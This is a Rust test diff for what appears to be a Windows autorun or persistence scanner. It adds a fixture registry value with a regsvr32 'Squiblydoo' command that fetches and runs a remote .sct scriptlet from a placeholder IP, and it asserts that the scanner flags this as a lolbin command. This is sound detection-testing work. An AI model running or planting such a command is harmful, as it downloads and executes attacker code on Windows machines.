@@ -232,6 +232,12 @@ fn com_override_and_values_differing_between_users() {
                     "Same".to_string(),
                     RegData::Sz("C:\\Program Files\\Same\\same.exe".into()),
                 ),
+                (
+                    "Sct".to_string(),
+                    RegData::Sz(
+                        "regsvr32.exe /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll".into(),
+                    ),
+                ),
             ]);
         root
     };
@@ -293,6 +299,10 @@ fn com_override_and_values_differing_between_users() {
         .iter()
         .filter(|a| a.entry.name == "Same")
         .all(|a| a.attention.is_empty()));
+    assert!(run
+        .iter()
+        .filter(|a| a.entry.name == "Sct")
+        .all(|a| flags(a) == ["lolbin_command"]));
 }
 
 /// The corpus's Task Scheduler 1.0 `.job` (plaso's `wintask.job`) is a task: its program, and
